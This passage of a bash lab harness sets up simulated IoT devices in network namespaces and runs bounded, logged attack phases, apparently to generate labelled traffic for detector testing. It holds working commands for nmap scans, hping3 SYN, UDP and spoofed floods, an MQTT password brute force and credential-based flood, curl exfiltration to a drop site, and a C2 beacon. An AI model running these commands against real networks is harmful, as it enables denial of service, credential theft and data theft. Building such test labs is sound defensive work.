  for d in "${LAB_DEVICES[@]}"; do _lab_device_start "$d"; done
  _lab_log "devices publishing: ${LAB_DEVICES[*]}"
}

# lab_device_start N: starts one device of LAB_LATE_DEVICES (a device type that joins the network now): it announces
# itself as a device does (ARP, with its first packets) and then publishes and chatters as the others do.
lab_device_start() {
  _lab_device_start "$1"
  _lab_log "device $1 (${LAB_DEVICE_NAME[$1]}) joined"
}

_lab_device_start() {
  local d=$1 name kind
  name=${LAB_DEVICE_NAME[$d]}
  kind=${name%-*}
  _lab_bg "$(lab_ns_of_device "$d")" "device-$name" "$LAB_LIFETIME" "$LAB_PY" "$LAB_DIR/device.py" "$name" \
    "$kind" "$LAB_SUBNET.$d" "$LAB_GW_IP" "$LAB_MQTT_PORT" "$name" "${LAB_DEVICE_PASSWORD[$d]}" \
    "$LAB_LIFETIME" "$((RANDOM * 100 + d))"
  printf '%s\n' "$_LAB_BG_PID" >>"$LAB_DIR/device-pids"
}

# lab_ramp_start N RATE FACTOR START_FILE: device N also polls the gateway's HTTP service (GET /api/poll, a new
# connection each) at RATE requests/s, from now on: its learned rate. Once START_FILE holds an epoch and that time has
# come, the rate grows by FACTOR per minute (a slow ramp: a compromised device turning up its traffic too slowly for
# any one step to stand out), up to 12 times RATE. Each second $LAB_DIR/ramp.log gets "EPOCH FACTOR" (the rate over
# RATE). Bounded by LAB_LIFETIME; lab_ramp_stop ends it.
lab_ramp_start() {
  _lab_bg "$(lab_ns_of_device "$1")" ramp "$LAB_LIFETIME" "$LAB_PY" -c '
import math, os, socket, sys, time
gw, rate, factor, start_file, out, lifetime = sys.argv[1], float(sys.argv[2]), float(sys.argv[3]), sys.argv[4], \
    sys.argv[5], float(sys.argv[6])
deadline = time.monotonic() + lifetime
start, last_log, n = None, 0.0, 0
with open(out, "a") as log:
    while time.monotonic() < deadline:
        now = time.time()
        if start is None and os.path.exists(start_file):
            try:
                start = float(open(start_file).read().strip())
            except ValueError:
                pass
        f = 1.0 if start is None or now < start else min(12.0, factor ** ((now - start) / 60.0))
        if now - last_log >= 1.0:
            log.write("%.3f %.4f\n" % (now, f))
            log.flush()
            last_log = now
        try:
            s = socket.create_connection((gw, 8080), timeout=2)
            s.sendall(b"GET /api/poll?n=%d HTTP/1.0\r\nHost: gw\r\n\r\n" % n)
            while s.recv(4096):
                pass
            s.close()
        except OSError:
            pass
        n += 1
        time.sleep(max(0.0, 1.0 / (rate * f) - 0.002))
' "$LAB_GW_IP" "$2" "$3" "$4" "$LAB_DIR/ramp.log" "$LAB_LIFETIME"
  printf '%s\n' "$_LAB_BG_PID" >"$LAB_DIR/ramp.pid"
  _lab_log "device $1 polls $LAB_GW_IP:8080 at $2/s; it ramps by $3 per minute once $4 says when"
}

lab_ramp_stop() {
  [[ -s $LAB_DIR/ramp.pid ]] || return 0
  kill -TERM "$(cat "$LAB_DIR/ramp.pid")" 2>/dev/null || true
  rm -f "$LAB_DIR/ramp.pid"
}

lab_devices_stop() {
  local p pids=() i
  [[ -f $LAB_DIR/device-pids ]] || return 0
  mapfile -t pids <"$LAB_DIR/device-pids"
  for p in "${pids[@]}"; do kill -TERM "$p" 2>/dev/null || true; done
  for ((i = 0; i < 30; i++)); do
    local alive=0
    for p in "${pids[@]}"; do kill -0 "$p" 2>/dev/null && alive=1; done
    ((alive)) || break
    sleep 0.1
  done
  for p in "${pids[@]}"; do
    kill -KILL "$p" 2>/dev/null || true
    wait "$p" 2>/dev/null || true
  done
  rm -f "$LAB_DIR/device-pids"
  _lab_log "devices stopped"
}

# ------------------------------------------------------------------ capture
# lab_capture_start FILE [FILTER]: tcpdump -i br0 (snaplen 256, -U) in the gateway namespace; one at a time.
lab_capture_start() {
  local f=$1 filter=${2:-} i
  [[ -s $LAB_DIR/capture.pid ]] && _lab_die "lab_capture_start: a capture is running already"
  : >"$f.log"
  # shellcheck disable=SC2086
  ip netns exec "$LAB_NS_GW" tcpdump -Z root -i br0 -s "$LAB_SNAPLEN" -U -nn -w "$f" $filter 2>"$f.log" &
  _lab_track "$!"
  printf '%s\n' "$!" >"$LAB_DIR/capture.pid"
  printf '%s\n' "$f" >"$LAB_DIR/capture.file"
  for ((i = 0; i < 50; i++)); do
    if grep -q "listening on" "$f.log" 2>/dev/null; then
      sleep 0.3
      return 0
    fi
    kill -0 "$(cat "$LAB_DIR/capture.pid")" 2>/dev/null || break
    sleep 0.1
  done
  _lab_die "tcpdump did not start: $(cat "$f.log")"
}

# lab_capture_stop: stop the capture with SIGINT so tcpdump flushes the file; waits for it (bounded).
lab_capture_stop() {
  local pid i f
  [[ -s ${LAB_DIR:-/nonexistent}/capture.pid ]] || return 0
  pid=$(cat "$LAB_DIR/capture.pid")
  f=$(cat "$LAB_DIR/capture.file" 2>/dev/null || true)
  sleep 0.5
  kill -INT "$pid" 2>/dev/null || true
  for ((i = 0; i < 50; i++)); do
    kill -0 "$pid" 2>/dev/null || break
    sleep 0.1
  done
  kill -KILL "$pid" 2>/dev/null || true
  wait "$pid" 2>/dev/null || true
  rm -f "$LAB_DIR/capture.pid" "$LAB_DIR/capture.file"
  [[ -n $f ]] && rm -f "$f.log"
  return 0
}

# ------------------------------------------------------------------ reachability
# lab_can_reach NS IP PORT: TCP connect from NS with a 2 s timeout; the exit status says whether it worked.
lab_can_reach() { ip netns exec "$1" nc -z -w 2 "$2" "$3" >/dev/null 2>&1; }
# lab_ping NS IP: one ping, 1 s timeout.
lab_ping() { ip netns exec "$1" ping -n -c 1 -W 1 "$2"; }

# ------------------------------------------------------------------ faults
# lab_link_flap SECONDS: br0 in the gateway namespace down for SECONDS, then up again (the bridge forwards at once).
lab_link_flap() {
  local secs=${1:?lab_link_flap SECONDS}
  _lab_log "br0 down for ${secs}s"
  ip -n "$LAB_NS_GW" link set br0 down
  _lab_sleep "$secs"
  ip -n "$LAB_NS_GW" link set br0 up
  _lab_log "br0 up"
}

# ------------------------------------------------------------------ attacks
# Every phase blocks until done, is bounded in count, rate and time, and appends a line to phases.csv.
: "${LAB_ATTACK_MAX_SECS:=45}" # hard limit per attack command (the phases take ~5-30 s)
: "${LAB_FLOOD_COUNT:=4000}"   # packets per hping3 flood (at 500 packets/s)
: "${LAB_BRUTE_COUNT:=150}"    # wrong passwords tried
: "${LAB_MQTT_FLOOD_TOPICS:=100}"
: "${LAB_MQTT_FLOOD_REPEAT:=20}" # messages per connection
# The flood lasts this long (bounded by LAB_ATTACK_MAX_SECS), whatever the machine's speed: a count of messages made
# it last 13 s on a fast run and 45 s on a slow one, and the short one spanned too few windows to be judged.
: "${LAB_MQTT_FLOOD_SECS:=30}"
: "${LAB_EXFIL_BYTES:=3000000}"
: "${LAB_EXFIL_RATE:=400k}"    # curl --limit-rate
: "${LAB_BEACON_COUNT:=15}"     # polls; a beacon detector needs a dozen or so to trust a clock
: "${LAB_BEACON_INTERVAL:=3}"

_lab_phase() { # PHASE TYPE ATTACKER VICTIM START END
  printf '%s,%s,%s,%s,%s,%s\n' "$@" >>"$LAB_DIR/phases.csv"
  _lab_log "phase $1 ($2) $3 -> $4: $(awk -v a="$5" -v b="$6" 'BEGIN{printf "%.1f", b-a}') s"
}

_lab_device_list() {
  local d out=()
  for d in "${LAB_DEVICES[@]}"; do out+=("$LAB_SUBNET.$d"); done
  printf '%s\n' "${out[*]}"
}

lab_attack_scan_syn() {
  local t0 t1 targets
  targets=$(_lab_device_list)
  t0=$(_lab_now)
  # shellcheck disable=SC2086
  _lab_run "$LAB_NS_ATK" "$LAB_ATTACK_MAX_SECS" nmap -n -sS -T4 --max-retries 1 --max-rate 800 \
    -p 1-1024,1883,8080 $targets >"$LAB_DIR/scan_syn.log" 2>&1 || _lab_log "nmap (scan_syn) exited non-zero"
  t1=$(_lab_now)
  _lab_phase scan_syn portscan "$LAB_ATTACKER_IP" "$LAB_SUBNET.0/24" "$t0" "$t1"
}

lab_attack_scan_telnet() {
  local t0 t1
  t0=$(_lab_now)
  _lab_run "$LAB_NS_ATK" "$LAB_ATTACK_MAX_SECS" nmap -n -sS -T4 --max-retries 1 --max-rate 800 -p 23,2323 \
    "$LAB_SUBNET.0/24" >"$LAB_DIR/scan_telnet.log" 2>&1 || _lab_log "nmap (scan_telnet) exited non-zero"
  t1=$(_lab_now)
  _lab_phase scan_telnet telnet_scan "$LAB_ATTACKER_IP" "$LAB_SUBNET.0/24" "$t0" "$t1"
}

lab_attack_flood_syn() {
  local t0 t1 victim=$LAB_SUBNET.12
  t0=$(_lab_now)
  _lab_run "$LAB_NS_ATK" "$LAB_ATTACK_MAX_SECS" hping3 -q -I eth0 -S -p 80 -i u2000 -c "$LAB_FLOOD_COUNT" \
    "$victim" >"$LAB_DIR/flood_syn.log" 2>&1 || true # hping3's status is 1 when a reply was missing
  t1=$(_lab_now)
  _lab_phase flood_syn syn_flood "$LAB_ATTACKER_IP" "$victim" "$t0" "$t1"
}

# The spoof phases: the attacker floods and scans the camera with the plug's address ($LAB_SPOOFED_IP; hping3 -a),
# from its own MAC. The camera answers the plug, whose kernel resets the SYN-ACKs it never asked for.
lab_attack_spoof_flood() {
  local t0 t1 victim=$LAB_SUBNET.12
  t0=$(_lab_now)
  _lab_run "$LAB_NS_ATK" "$LAB_ATTACK_MAX_SECS" hping3 -q -I eth0 -a "$LAB_SPOOFED_IP" -S -p 80 -i u2000 \
    -c "$LAB_FLOOD_COUNT" "$victim" >"$LAB_DIR/spoof_flood.log" 2>&1 || true
  t1=$(_lab_now)
  _lab_phase spoof_flood spoofed_syn_flood "$LAB_ATTACKER_IP" "$victim" "$t0" "$t1"
}

lab_attack_spoof_scan() {
  local t0 t1 victim=$LAB_SUBNET.12
  t0=$(_lab_now)
  # hping3's scan mode (--scan) waits for answers that go to the plug: send SYNs over the port range instead, with
  # the destination port increasing for each packet (++1), 2 ms apart
  _lab_run "$LAB_NS_ATK" "$LAB_ATTACK_MAX_SECS" hping3 -q -I eth0 -a "$LAB_SPOOFED_IP" -S -s 40000 -p ++1 \
    -i u2000 -c 3000 "$victim" >"$LAB_DIR/spoof_scan.log" 2>&1 || true
  t1=$(_lab_now)
  _lab_phase spoof_scan spoofed_portscan "$LAB_ATTACKER_IP" "$victim" "$t0" "$t1"
}

# lab_mac_of IP: the lab MAC of a lab address (eth0 of its namespace: 02:00:00:00:00:<last octet>)
lab_mac_of() { printf '02:00:00:00:00:%s\n' "${1##*.}"; }

lab_attack_flood_udp() {
  local t0 t1 victim=$LAB_SUBNET.15
  t0=$(_lab_now)
  _lab_run "$LAB_NS_ATK" "$LAB_ATTACK_MAX_SECS" hping3 -q -I eth0 --udp -p 5683 -d 64 -i u2000 \
    -c "$LAB_FLOOD_COUNT" "$victim" >"$LAB_DIR/flood_udp.log" 2>&1 || true
  t1=$(_lab_now)
  _lab_phase flood_udp udp_flood "$LAB_ATTACKER_IP" "$victim" "$t0" "$t1"
}

lab_attack_mqtt_bruteforce() {
  local t0 t1
  t0=$(_lab_now)
  # one connection per guess (each answered "not authorised" by the broker), against the thermostat's account
  _lab_run "$LAB_NS_ATK" "$LAB_ATTACK_MAX_SECS" bash -c '
    gw=$1 port=$2 n=$3 ok=0
    for ((i = 0; i < n; i++)); do
      if mosquitto_pub -h "$gw" -p "$port" -u thermostat-11 -P "guess$i$RANDOM" -i "scan$i" -q 0 \
        -t devices/thermostat-11/telemetry -m x 2>/dev/null; then ok=$((ok + 1)); fi
      sleep 0.05
    done
    echo "$n tries, $ok accepted"' _ "$LAB_GW_IP" "$LAB_MQTT_PORT" "$LAB_BRUTE_COUNT" \
    >"$LAB_DIR/mqtt_bruteforce.log" 2>&1 || _lab_log "mqtt_bruteforce loop exited non-zero"
  t1=$(_lab_now)
  _lab_phase mqtt_bruteforce mqtt_bruteforce "$LAB_ATTACKER_IP" "$LAB_GW_IP" "$t0" "$t1"
}

lab_attack_mqtt_flood() {
  local t0 t1 cred
  # the plug's credential, stolen: the broker accepts the connection; its ACL drops publishes to other topics
  cred=$(awk '$1 == "plug-13" {print $2}' "$LAB_DIR/device-credentials")
  t0=$(_lab_now)
  _lab_run "$LAB_NS_ATK" "$LAB_ATTACK_MAX_SECS" bash -c '
    gw=$1 port=$2 pw=$3 topics=$4 rep=$5 secs=$6
    end=$((SECONDS + secs))
    for ((i = 0; SECONDS < end; i++)); do
      mosquitto_pub -h "$gw" -p "$port" -u plug-13 -P "$pw" -i "plug-13-x$i" -q 0 -t "devices/plug-13/cmd/$((i % topics))" \
        -m "{\"relay\":\"off\",\"pad\":\"$(printf "%0200d" 0)\"}" --repeat "$rep" --repeat-delay 0.005 || true
    done' _ "$LAB_GW_IP" "$LAB_MQTT_PORT" "$cred" "$LAB_MQTT_FLOOD_TOPICS" "$LAB_MQTT_FLOOD_REPEAT" \
    "$LAB_MQTT_FLOOD_SECS" \
    >"$LAB_DIR/mqtt_flood.log" 2>&1 || _lab_log "mqtt_flood loop exited non-zero"
  t1=$(_lab_now)
  _lab_phase mqtt_flood mqtt_flood "$LAB_ATTACKER_IP" "$LAB_GW_IP" "$t0" "$t1"
}

# The drop site in the attacker namespace (HTTP, accepts POSTs), started on first use, bounded by LAB_LIFETIME.
_lab_dropsite() {
  if ip netns exec "$LAB_NS_ATK" ss -Hltn "sport = :8443" 2>/dev/null | grep -c . >/dev/null; then return 0; fi
  _lab_bg "$LAB_NS_ATK" dropsite "$LAB_LIFETIME" "$LAB_PY" "$LAB_DIR/svc.py" http "$LAB_ATTACKER_IP" 8443 \
    "$LAB_LIFETIME"
  _lab_wait_port "$LAB_NS_ATK" tcp 8443
}

lab_attack_exfil() {
  local t0 t1 cam_ip=$LAB_SUBNET.12
  _lab_dropsite
  t0=$(_lab_now)
  _lab_run "$(lab_ns_of_device 12)" "$LAB_ATTACK_MAX_SECS" bash -c '
    head -c "$1" /dev/urandom | curl -s -o /dev/null --noproxy "*" -m 40 --limit-rate "$2" \
      -H "Content-Type: application/octet-stream" --data-binary @- "http://$3:8443/upload"' \
    _ "$LAB_EXFIL_BYTES" "$LAB_EXFIL_RATE" "$LAB_ATTACKER_IP" >"$LAB_DIR/exfil.log" 2>&1 ||
    _lab_log "exfil upload exited non-zero"
  t1=$(_lab_now)
  _lab_phase exfil exfiltration "$cam_ip" "$LAB_ATTACKER_IP" "$t0" "$t1"
}

lab_attack_beacon() {
  local t0 t1 cam_ip=$LAB_SUBNET.12
  _lab_dropsite
  t0=$(_lab_now)
  # bounded by the polls themselves: each takes at most its 3 s timeout plus the interval
  _lab_run "$(lab_ns_of_device 12)" $((LAB_BEACON_COUNT * (LAB_BEACON_INTERVAL + 3) + 10)) bash -c '
    for ((i = 0; i < $1; i++)); do
      curl -s -o /dev/null --noproxy "*" -m 3 -A "Mozilla/4.0" "http://$3:8443/c2/poll?id=cam12&n=$i" || true
      ((i + 1 < $1)) && sleep "$2"
    done' _ "$LAB_BEACON_COUNT" "$LAB_BEACON_INTERVAL" "$LAB_ATTACKER_IP" >"$LAB_DIR/beacon.log" 2>&1 ||
    _lab_log "beacon loop exited non-zero"
  t1=$(_lab_now)
  _lab_phase beacon c2_beacon "$cam_ip" "$LAB_ATTACKER_IP" "$t0" "$t1"
}

LAB_ATTACKS=(scan_syn scan_telnet flood_syn flood_udp mqtt_bruteforce mqtt_flood exfil beacon)

# lab_attack_all [GAP_SECONDS]: every phase in the fixed order of LAB_ATTACKS, GAP (default 10) benign seconds
# before each and after the last.
lab_attack_all() {
  local gap=${1:-10} a
  for a in "${LAB_ATTACKS[@]}"; do
    _lab_sleep "$gap"
    "lab_attack_$a"
  done
  _lab_sleep "$gap"
}
